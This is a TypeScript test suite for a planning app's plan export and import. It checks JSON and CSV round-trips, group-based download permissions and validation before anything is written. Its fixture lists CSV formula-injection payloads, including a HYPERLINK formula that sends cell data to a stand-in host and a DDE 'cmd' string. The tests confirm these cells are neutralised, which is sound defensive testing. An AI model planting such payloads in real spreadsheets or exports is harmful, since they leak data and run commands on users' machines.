import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { isMutualError } from '@mutual/protocol';
import { SpaceTemplates } from '../templates/space-templates.js';
import { startTestOrganisation, type TestOrganisation } from '../testing/test-organisation.js';
import { exportPlan } from './export-plan.js';
import { importPlan } from './import-plan.js';
import { planFromCsv, planToCsv } from './plan-csv.js';
import type { Plan } from './plan.js';

const alice = 'alice@seller.test';
const hostileTitles = ['=HYPERLINK("https://evil.test/?"&A1,"Click")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', "'=already escaped", 'Comma, "quotes"\r\nand a line break'];
const withoutSpace = (plan: Plan) => ({ ...plan, space: undefined });

describe('plan export and import', () => {
  let org: TestOrganisation;
  let templates: SpaceTemplates;

  before(async () => {
    org = await startTestOrganisation({ domain: 'seller.test' });
    templates = new SpaceTemplates(org.server.store, org.admin);
    await org.admin.addPerson({ id: alice, name: 'Alice' });
    await templates.createSpace({ id: 'acme', name: 'Acme', buyer: 'buyer.test', decisionDate: '2027-06-30' });
    await org.admin.updateTask('acme.proof', 'proof-scope', { owner: alice, status: 'doing' });
    for (const [index, title] of hostileTitles.entries()) {
      await org.admin.createTask('acme.contract', `hostile-${index}`, { title, status: 'blocked', deliverable: '=1+1', due: '2027-03-0' + (index + 1) });
    }
    await org.admin.setMilestone('acme.plan', 'decision', { title: 'Decision', date: '2027-06-30', done: false });
    await org.admin.createTask('acme.internal', 'floor', { title: 'Deal desk: price floor', status: 'todo' });
  });
  after(() => org?.close());

  it('exports the tasks and milestones of a space, internal groups only when asked', async () => {
    const plan = await exportPlan(org.server.store, 'acme');
    assert.deepEqual(plan.space, { id: 'acme', name: 'Acme', decisionDate: '2027-06-30' });
    assert.ok(plan.tasks.some((t) => t.group === 'proof' && t.id === 'proof-scope' && t.owner === alice && t.status === 'doing'));
    assert.ok(plan.milestones.some((m) => m.group === 'plan' && m.id === 'decision'));
    assert.ok(!plan.tasks.some((t) => t.group === 'internal'));
    assert.ok((await exportPlan(org.server.store, 'acme', { includeInternal: true })).tasks.some((t) => t.id === 'floor'));
  });

  it('round-trips through JSON into another space, and re-importing changes nothing', async () => {
    const plan = JSON.parse(JSON.stringify(await exportPlan(org.server.store, 'acme'))) as Plan;
    await templates.createSpace({ id: 'copy-json', name: 'Copy', buyer: 'buyer.test', template: 'empty' });
    // A task's owner must be in its group here too: nothing is written until they are.
    await assert.rejects(importPlan(org.server.store, org.admin, 'copy-json', plan), (error) => isMutualError(error) && error.code === 'invalid_request' && /alice@seller\.test is not a member of copy-json\.proof/.test(error.message));
    assert.deepEqual((await exportPlan(org.server.store, 'copy-json')).tasks, []);
    await org.admin.addMember('copy-json.proof', alice);
    const summary = await importPlan(org.server.store, org.admin, 'copy-json', plan);
    assert.deepEqual(summary, { created: plan.tasks.length, updated: 0, unchanged: 0, milestones: plan.milestones.length });
    assert.deepEqual(withoutSpace(await exportPlan(org.server.store, 'copy-json')), withoutSpace(plan));
    assert.deepEqual(await importPlan(org.server.store, org.admin, 'copy-json', plan), { created: 0, updated: 0, unchanged: plan.tasks.length, milestones: 0 });
    // A changed row becomes a task.updated of just that field.
    plan.tasks[0] = { ...plan.tasks[0]!, status: 'done' };
    assert.deepEqual(await importPlan(org.server.store, org.admin, 'copy-json', plan), { created: 0, updated: 1, unchanged: plan.tasks.length - 1, milestones: 0 });
  });

  it('round-trips through CSV with every formula-looking cell neutralised in the file', async () => {
    const plan = await exportPlan(org.server.store, 'acme');
    const csv = planToCsv(plan);
    assert.ok(csv.startsWith('kind,group,id,title,status,owner,date,deliverable,workstream\r\n'));
    for (const line of csv.split('\r\n').filter((l) => /^task,contract,hostile-[0-4],/.test(l))) {
      const cells = line.split(',');
      assert.match(cells[3]!, /^"?'/, `title neutralised: ${line}`);
    }
    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click"")"`));
    assert.ok(csv.includes(",'=1+1,"), 'the deliverable too');
    assert.ok(csv.includes(`''=already escaped`));
    assert.deepEqual(planFromCsv(csv, plan.space), plan, 'reading gives back the exact texts');

    await templates.createSpace({ id: 'copy-csv', name: 'Copy', buyer: 'buyer.test', template: 'empty' });
    await org.admin.addMember('copy-csv.proof', alice);
    await importPlan(org.server.store, org.admin, 'copy-csv', planFromCsv(csv, { id: 'copy-csv', name: 'Copy' }));
    assert.deepEqual(withoutSpace(await exportPlan(org.server.store, 'copy-csv')), withoutSpace(plan));
    assert.equal((await org.server.store.getTask('copy-csv.contract', 'hostile-0'))?.title, hostileTitles[0]);
  });

  it('lets a person download the plan of the groups they are in, as CSV or JSON, and nothing else', async () => {
    const bob = 'bob@seller.test';
    await org.admin.addPerson({ id: bob, name: 'Bob' });
    for (const slug of ['proof', 'contract', 'internal']) await org.admin.addMember(`acme.${slug}`, bob);
    const download = async (query: string, person = bob) =>
      fetch(`${org.url}/api/spaces/acme/plan${query}`, { headers: { Authorization: `Bearer ${await org.token(person)}` } });

    const response = await download('?format=csv');
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(response.headers.get('content-disposition') ?? '', /attachment; filename="acme-plan.csv"/);
    const plan = planFromCsv(await response.text(), { id: 'acme', name: 'Acme' });
    assert.deepEqual([...new Set(plan.tasks.map((t) => t.group))].sort(), ['contract', 'proof'], 'his groups only, internal left out');
    assert.ok(plan.tasks.some((t) => t.title === hostileTitles[0]));
    const json = (await (await download('?internal=true')).json()) as Plan;
    assert.deepEqual([...new Set(json.tasks.map((t) => t.group))].sort(), ['contract', 'internal', 'proof']);
    assert.equal((await download('', 'eve@seller.test')).status, 403, 'a person in none of its groups');
    assert.equal((await fetch(`${org.url}/api/spaces/acme/plan`)).status, 401);
  });

  it('checks the whole plan before writing anything: unknown groups, bad rows, groups homed elsewhere', async () => {
    const code = (wanted: string) => (error: unknown) => isMutualError(error) && error.code === wanted;
    const plan = await exportPlan(org.server.store, 'acme');
    await templates.createSpace({ id: 'partial', name: 'Partial', buyer: 'buyer.test', template: 'empty' });
    const bad = { ...plan, tasks: [...plan.tasks, { group: 'nowhere', id: 'x', title: 'X', status: 'todo' as const }] };
    await assert.rejects(importPlan(org.server.store, org.admin, 'partial', bad), code('not_found'));
    assert.equal((await exportPlan(org.server.store, 'partial')).tasks.length, 0, 'nothing was written');
    await assert.rejects(importPlan(org.server.store, org.admin, 'partial', { ...plan, tasks: [{ ...plan.tasks[0], status: 'someday' }] }), code('invalid_request'));
    // A group the buyer's server homes (as a replica holds it): its plan is imported there, not here.
    await org.server.store.upsertGroup({ id: 'partial.committee', space: 'partial', kind: 'workstream', workstream: 'committee', name: 'Committee', home: 'buyer.test' }, new Date().toISOString());
    await assert.rejects(importPlan(org.server.store, org.admin, 'partial', { ...plan, tasks: [{ ...plan.tasks[0]!, group: 'committee' }] }), code('not_home'));
    assert.throws(() => planFromCsv('kind,group,id,title,status,owner,date,deliverable,workstream\r\ntask,proof,x,,todo,,,,\r\n', plan.space), /line 2/);
    assert.throws(() => planFromCsv('kind,group\r\n', plan.space), /missing column/);
  });
});
